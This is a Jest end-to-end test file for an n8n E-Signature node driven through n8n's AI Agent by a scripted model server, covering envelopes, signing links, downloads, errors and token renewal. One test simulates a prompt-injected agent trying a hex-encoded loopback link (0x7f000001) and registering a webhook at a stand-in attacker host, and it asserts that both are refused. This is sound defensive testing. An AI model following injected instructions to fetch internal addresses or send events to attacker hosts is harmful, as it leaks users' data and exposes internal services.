/* eslint-disable @n8n/community-nodes/no-restricted-globals -- not shipped code (docs/n8n-notes.md#lint-rules) */
/**
 * The E-Signature tools under n8n's own AI Agent (3.1) with n8n's OpenAI Chat Model (1.3), its credential's Base URL
 * pointed at a scripted OpenAI-compatible model server (scripted-model.ts: it stands in for the model only). One n8n
 * for the file. Every scenario asserts what the emulator received and the text the model received
 * (docs/ai-agents.md).
 */
import {
	type DocumentServer,
	createEnvelopeTool,
	eSignatureTool,
	fromAI,
	getStatusTool,
	sendAndWaitTool,
	serveDocument,
} from './agent-tools';
import { type Execution, assertSuccess, nodeOutput } from './n8n';
import { type ModelRequest, type ModelStep, ScriptedModel, lastToolResult } from './scripted-model';
import { type Stack, startStack } from './stack';
import { type NodeSpec, chain, manualTrigger } from './workflow-builder';
import { UNKNOWN_GUID } from '../harness/values';

jest.setTimeout(300_000);

/** The first value of `key` anywhere in a value (tool results are nested as n8n hands them). */
function findAll(value: unknown, key: string, found: unknown[] = []): unknown[] {
	if (Array.isArray(value)) for (const entry of value) findAll(entry, key, found);
	else if (value && typeof value === 'object') {
		for (const [name, entry] of Object.entries(value)) {
			if (name === key) found.push(entry);
			findAll(entry, key, found);
		}
	}
	return found;
}
const findOne = (value: unknown, key: string) => findAll(value, key)[0];

const TOOLS = {
	create: createEnvelopeTool(),
	links: eSignatureTool('Send and Get Links', {
		resource: 'invitation',
		operation: 'sendWithLinks',
		documentId: fromAI('documentId', 'The documentId of the created envelope'),
		destinationsInput: 'json',
		destinationsJson: fromAI(
			'signers',
			'JSON list of signers: [{"name", "email", "invitationLanguage": "English" or "Arabic"}]',
		),
	}),
	status: getStatusTool(),
};

describe('E-Signature tools under the AI Agent', () => {
	let stack: Stack;
	let model: ScriptedModel;
	let files: DocumentServer;
	let documentUrl: string;
	let openAi: { id: string; name: string };

	beforeAll(async () => {
		model = await ScriptedModel.start();
		files = await serveDocument(() => stack.emulator.samplePdf);
		documentUrl = files.url('/files/lease.pdf');
		stack = await startStack({ tarball: process.env.ESIG_E2E_TARBALL });
		const created = await stack.n8n.rest('POST', '/credentials', {
			name: 'Scripted model',
			type: 'openAiApi',
			data: { apiKey: 'sk-scripted', url: model.baseUrl, header: false },
		});
		openAi = { id: created.id, name: 'Scripted model' };
	});
	afterAll(async () => {
		await stack?.stop();
		await model?.stop();
		await files?.stop();
	});

	beforeEach(() => {
		stack.emulator.clearRequests();
		files.downloads.length = 0;
	});

	/** Manual Trigger → AI Agent, with the OpenAI Chat Model and the given tools. */
	async function agentWorkflow(
		name: string,
		prompt: string,
		tools: NodeSpec[],
		{ responsesApi = true } = {},
	) {
		const chatModel: NodeSpec = {
			name: 'OpenAI Chat Model',
			type: '@n8n/n8n-nodes-langchain.lmChatOpenAi',
			typeVersion: 1.3,
			parameters: {
				model: { __rl: true, mode: 'id', value: 'gpt-4.1-mini' },
				responsesApiEnabled: responsesApi,
				options: {},
			},
			credentials: { openAiApi: openAi },
		};
		const agent: NodeSpec = {
			name: 'AI Agent',
			type: '@n8n/n8n-nodes-langchain.agent',
			typeVersion: 3.1,
			parameters: { promptType: 'define', text: prompt, options: {} },
		};
		const subNodes: Record<string, unknown> = {
			'OpenAI Chat Model': {
				ai_languageModel: [[{ node: 'AI Agent', type: 'ai_languageModel', index: 0 }]],
			},
		};
		for (const t of tools)
			subNodes[t.name] = { ai_tool: [[{ node: 'AI Agent', type: 'ai_tool', index: 0 }]] };
		const wf = chain(name, [manualTrigger(), agent], { connections: subNodes });
		wf.nodes.push(
			...[chatModel, ...tools].map((node, i) => ({
				id: `${name}-${i}`,
				position: [i * 200, 300],
				...node,
			})),
		);
		return await stack.addWorkflow(wf);
	}

	/** Runs a conversation: the script answers each model request in turn; all its steps must be used. */
	async function converse(
		workflowId: string,
		steps: ModelStep[],
	): Promise<{ execution: Execution; requests: ModelRequest[]; answer: string }> {
		model.script(steps);
		const execution = assertSuccess(await stack.n8n.runWorkflow(workflowId));
		expect(model.stepsLeft).toBe(0);
		return {
			execution,
			requests: [...model.requests],
			answer: String(nodeOutput(execution, 'AI Agent')[0].json.output),
		};
	}

	const call = (name: string, args: Record<string, unknown>) => ({
		toolCalls: [{ name, arguments: args }],
	});

	test('a chat sends a contract from a document URL to two signers, reports the signing links, then its status', async () => {
		const wf = await agentWorkflow(
			'Agent sends a contract',
			'Send the lease at the link to Jane and Omar, in English, and tell me their signing links.',
			[TOOLS.create, TOOLS.links, TOOLS.status],
		);
		let envelopeId = '';
		const { requests, answer } = await converse(wf.id, [
			(request) => {
				expect(request.tools.map((t) => t.name).sort()).toEqual([
					'Create_Envelope',
					'Get_Status',
					'Send_and_Get_Links',
				]);
				return call('Create_Envelope', { documentUrl });
			},
			(request) => {
				const created = lastToolResult(request);
				envelopeId = String(findOne(created, 'envelopeId'));
				const signers = [
					{ name: 'Jane Doe', email: 'jane@example.com', invitationLanguage: 'English' },
					{ name: 'Omar Ali', email: 'omar@example.com', invitationLanguage: 'english' },
				];
				return call('Send_and_Get_Links', {
					documentId: String(findOne(created, 'documentId')),
					signers: JSON.stringify(signers),
				});
			},
			() => call('Get_Status', { envelopeId }),
			(request) => {
				const links = findAll(
					request.toolResults[1] && JSON.parse(request.toolResults[1].output),
					'invitationLink',
				);
				return {
					text: `Sent. Signing links: ${links.join(' and ')}. Status: ${String(findOne(lastToolResult(request), 'status'))}.`,
				};
			},
		]);

		// What the service received: the downloaded PDF (fetched without the credential), two English invitations, a status read.
		expect(files.downloads).toHaveLength(1);
		expect(files.downloads[0].authorization).toBeUndefined();
		const api = stack.emulator.requests.filter((r) => r.path.startsWith('/api/'));
		expect(api.map((r) => `${r.method} ${r.path}`)).toEqual([
			'POST /api/v1/envelopes/initiate-base64',
			'POST /api/v3/invitations/send',
			`GET /api/v1/envelopes/${envelopeId}/status`,
		]);
		expect(api[0].body).toMatchObject({
			files: { file: stack.emulator.samplePdf.toString('base64'), fileName: 'lease.pdf' },
		});
		expect(api[1].body).toMatchObject({
			destinations: [
				{
					destinationName: 'Jane Doe',
					destinationEmail: 'jane@example.com',
					invitationLanguage: 2,
				},
				{
					destinationName: 'Omar Ali',
					destinationEmail: 'omar@example.com',
					invitationLanguage: 2,
				},
			],
		});

		// What the model received: the IDs it needs next, the links the service made, the status.
		const envelope = stack.emulator.state.envelopeOf(
			stack.emulator.state.account(stack.emulator.demo.accountId)!,
			envelopeId,
		)!;
		expect(envelope.signers.map((s) => s.email)).toEqual(['jane@example.com', 'omar@example.com']);
		const links = findAll(
			JSON.parse(requests[2].toolResults[1].output),
			'invitationLink',
		) as string[];
		expect(links).toHaveLength(2);
		expect(findOne(JSON.parse(requests[1].toolResults[0].output), 'envelopeId')).toBe(envelopeId);
		expect(requests[3].toolResults[2].output).toContain(envelopeId);
		expect(answer).toBe(
			`Sent. Signing links: ${links.join(' and ')}. Status: ${String(findOne(JSON.parse(requests[3].toolResults[2].output), 'status'))}.`,
		);
	});

	test("a tool left at File Input's tool default: the model is offered a link, no binary choice, and it works", async () => {
		// As a user adds it to an agent: File Input untouched, which as a tool starts at URL (no Binary File offered).
		const fresh = eSignatureTool('Create From Link', {
			resource: 'envelope',
			operation: 'createFromBase64',
			fileUrl: fromAI('documentUrl', 'Link to the PDF'),
			// The document server is on loopback, which a tool reaches only with the author's allowance (docs/security.md).
			downloadOptions: { allowInternalAddresses: true },
		});
		const wf = await agentWorkflow(
			'Agent creates from a link',
			'Create an envelope from the lease at the link.',
			[fresh],
		);
		const { requests } = await converse(wf.id, [
			(request) => {
				// What the model received in its tools list: the link only, nothing about binary fields or File Input.
				const offered = request.tools.find((tool) => tool.name === 'Create_From_Link');
				const schema = offered?.parameters as {
					properties?: Record<string, unknown>;
					required?: string[];
				};
				expect(Object.keys(schema.properties ?? {})).toEqual(['documentUrl']);
				expect(schema.required).toEqual(['documentUrl']);
				expect(JSON.stringify(offered)).not.toMatch(/binary|inputDataFieldName|fileInput/i);
				return call('Create_From_Link', { documentUrl });
			},
			() => ({ text: 'Created.' }),
		]);
		expect(requests[1].toolResults[0].output).toContain('envelopeId');
		expect(files.downloads).toHaveLength(1);
		const api = stack.emulator.requests.filter((r) => r.path.startsWith('/api/'));
		expect(api.map((r) => `${r.method} ${r.path}`)).toEqual([
			'POST /api/v1/envelopes/initiate-base64',
		]);
		expect(api[0].body).toMatchObject({
			files: { file: stack.emulator.samplePdf.toString('base64'), fileName: 'lease.pdf' },
		});
		expect(findOne(JSON.parse(requests[1].toolResults[0].output), 'envelopeId')).toEqual(
			expect.any(String),
		);
	});

	test("a download as a tool: the model reads the file's details, trimmed, never the file", async () => {
		const account = stack.emulator.state.account(stack.emulator.demo.accountId)!;
		const { documentId } = stack.emulator.state.createEnvelope(account, {
			files: [{ fileName: 'lease.pdf', data: stack.emulator.samplePdf }],
		});
		const download = eSignatureTool('Download Original', {
			resource: 'document',
			operation: 'download',
			documentId: fromAI('documentId', 'The documentId of the envelope'),
		});
		const wf = await agentWorkflow('Agent downloads a document', 'Get me the lease document.', [
			download,
		]);
		const { requests } = await converse(wf.id, [
			() => call('Download_Original', { documentId }),
			() => ({ text: 'It is lease.pdf.' }),
		]);
		expect(
			stack.emulator.requests.filter((r) => r.path.startsWith('/api/')).map((r) => r.path),
		).toEqual([`/api/v1/documents/${documentId}`]);
		// What the model read: one short JSON description of the file, no error, no file content.
		const output = requests[1].toolResults[0].output;
		expect(JSON.parse(output)).toEqual([
			{
				documentId,
				fileName: 'lease.pdf',
				mimeType: 'application/pdf',
				fileSize: stack.emulator.samplePdf.length,
				file: "Not passed to AI tools: a model gets the file's details only. Use this operation in a workflow to get the file.",
			},
		]);
		expect(output).not.toContain(stack.emulator.samplePdf.toString('base64').slice(0, 40));
	});

	test('an unknown ID and a malformed one: what the model reads (Chat Completions API)', async () => {
		const wf = await agentWorkflow(
			'Agent reads errors',
			'What is the status of my envelopes?',
			[TOOLS.status],
			{ responsesApi: false },
		);
		const { requests } = await converse(wf.id, [
			() => call('Get_Status', { envelopeId: UNKNOWN_GUID }),
			() => call('Get_Status', { envelopeId: 'envelope-42' }),
			() => ({ text: 'Neither ID names an envelope of yours.' }),
		]);
		expect(requests.every((r) => r.api === 'chat')).toBe(true);
		// Only the well-formed ID reached the service; after its not-found, one read asks whether it is a document's.
		expect(
			stack.emulator.requests.filter((r) => r.path.startsWith('/api/')).map((r) => r.path),
		).toEqual([`/api/v1/envelopes/${UNKNOWN_GUID}/status`, `/api/v1/documents/${UNKNOWN_GUID}`]);
		const [unknown, malformed] = requests[2].toolResults.map((result) => result.output);
		expect(unknown).toContain(
			`Envelope ID \\"${UNKNOWN_GUID}\\" was not found. The service answered without data. envelopeId comes from`,
		);
		expect(malformed).toContain(
			'Envelope ID must be an ID like 3f2504e0-4f89-11d3-9a0c-0305e82c3301, got \\"envelope-42\\"',
		);
	});

	test('the access token expires between two tool calls: the second renews it once and succeeds', async () => {
		const account = stack.emulator.state.account(stack.emulator.demo.accountId)!;
		const { envelopeId } = stack.emulator.state.createEnvelope(account, {
			files: [{ fileName: 'a.pdf', data: stack.emulator.samplePdf }],
		});
		const wf = await agentWorkflow('Agent across a token expiry', 'Check the envelope twice.', [
			TOOLS.status,
		]);
		let tokensBefore = 0;
		const { requests } = await converse(wf.id, [
			() => {
				tokensBefore = stack.emulator.tokenRequests;
				return call('Get_Status', { envelopeId });
			},
			() => {
				stack.emulator.expireAllTokens();
				return call('Get_Status', { envelopeId });
			},
			() => ({ text: 'Checked twice.' }),
		]);
		const reads = stack.emulator.requests.filter(
			(r) => r.path === `/api/v1/envelopes/${envelopeId}/status`,
		);
		// The first call, the second refused once with the expired token, then sent again with a new one.
		expect(reads).toHaveLength(3);
		expect(reads[1].headers.authorization).toBe(reads[0].headers.authorization);
		expect(reads[2].headers.authorization).not.toBe(reads[1].headers.authorization);
		expect(stack.emulator.tokenRequests - tokensBefore).toBe(1);
		expect(
			requests[2].toolResults.map((result) => findOne(JSON.parse(result.output), 'envelopeId')),
		).toEqual([envelopeId, envelopeId]);
	});

	test('an injected instruction: internal links and a callback URL the model chose are refused, nothing is fetched or registered', async () => {
		// The author has not allowed internal addresses, and left the webhook's URL to the model (docs/security.md).
		const wf = await agentWorkflow(
			'Agent meets an injection',
			'Send the contract at the link in the e-mail.',
			[
				createEnvelopeTool({ internal: false }),
				eSignatureTool('Register Webhook', {
					resource: 'webhook',
					operation: 'create',
					webhookUrl: fromAI('url', 'Where signing events go'),
				}),
			],
		);
		const internalOrigin = new URL(documentUrl).origin;
		const hexLink = documentUrl.replace('127.0.0.1', '0x7f000001');
		const attacker = 'https://collector.attacker.example/hook';
		const webhooksBefore = stack.emulator.webhooks().length;
		const { requests } = await converse(wf.id, [
			() => call('Create_Envelope', { documentUrl }),
			() => call('Create_Envelope', { documentUrl: hexLink }),
			() => call('Register_Webhook', { url: attacker }),
			() => ({ text: 'Each was refused.' }),
		]);
		// Nothing reached the internal document server or the service.
		expect(files.downloads).toHaveLength(0);
		expect(stack.emulator.requests.filter((r) => r.path.startsWith('/api/'))).toEqual([]);
		expect(stack.emulator.webhooks()).toHaveLength(webhooksBefore);
		expect(stack.emulator.webhooks().some((w) => w.webhookUrl === attacker)).toBe(false);
		// What the model read: the refusal, naming the link, and nothing of what listens there.
		const [loopback, hex, webhook] = requests[3].toolResults.map((result) => result.output);
		expect(loopback).toContain(`File URL: refused: internal address ${internalOrigin}`);
		expect(hex).toContain(`File URL: refused: internal address ${internalOrigin}`);
		expect(webhook).toContain(
			'Webhook URL: an AI tool may not choose this URL: write it in the node, not with an expression or the model',
		);
	});

	test("Send and Wait as a tool: the agent waits with the execution and reads the signed file's details", async () => {
		const wf = await agentWorkflow(
			'Agent sends and waits',
			'Have Jane sign the lease and tell me when it is signed.',
			[sendAndWaitTool()],
		);
		model.script([
			() =>
				call('Send_and_Wait_for_Signature', {
					documentUrl,
					signerName: 'Jane Doe',
					signerEmail: 'jane@example.com',
				}),
			(request) => ({ text: `Signed: ${String(findOne(lastToolResult(request), 'event'))}.` }),
		]);
		const executionId = await stack.n8n.startRun(wf.id, 'Manual Trigger');
		const deadline = Date.now() + 60_000;
		let webhook: { webhookUrl: string } | undefined;
		while (!webhook) {
			webhook = stack.emulator
				.webhooks()
				.find(
					(w) =>
						w.webhookUrl.includes(`/webhook-waiting/${executionId}`) &&
						w.webhookUrl.includes('envelopeId='),
				);
			const ex = (await stack.n8n
				.api('GET', `/executions/${executionId}`)
				.catch(() => undefined)) as Execution | undefined;
			if (ex && ['error', 'success', 'crashed'].includes(ex.status))
				throw new Error(`execution ${executionId} ended ${ex.status} instead of waiting`);
			if (Date.now() > deadline)
				throw new Error(`no webhook at the service for execution ${executionId}`);
			if (!webhook) await new Promise((resolve) => setTimeout(resolve, 200));
		}
		const envelopeId = new URL(webhook.webhookUrl).searchParams.get('envelopeId')!;
		// The model has had one turn: it waits with the execution until the contract is signed.
		expect(model.requests).toHaveLength(1);
		await stack.emulator.sign(envelopeId, 'jane@example.com');

		const execution = assertSuccess(await stack.n8n.waitForExecution(executionId));
		expect(model.stepsLeft).toBe(0);
		const api = stack.emulator.requests
			.filter((r) => r.path.startsWith('/api/'))
			.map((r) => `${r.method} ${r.path}`);
		expect(api).toEqual(
			expect.arrayContaining([
				'POST /api/v1/webhooks',
				'POST /api/v1/envelopes/bulk/initiate-base64',
				'POST /api/v3/invitations/send',
			]),
		);
		// What the model read when the execution resumed: the signed envelope, with its documents.
		const result = lastToolResult(model.requests[1]);
		expect(findOne(result, 'event')).toBe('completed');
		expect(findOne(result, 'envelopeId')).toBe(envelopeId);
		expect(findOne(result, 'documentIds')).toEqual([
			stack.emulator.envelope(envelopeId)!.files[0].fileId,
		]);
		expect(String(nodeOutput(execution, 'AI Agent')[0].json.output)).toBe('Signed: completed.');
		// Nothing is left at the service for this execution.
		expect(
			stack.emulator
				.webhooks()
				.filter((w) => w.webhookUrl.includes(`/webhook-waiting/${executionId}`)),
		).toHaveLength(0);
	});
});
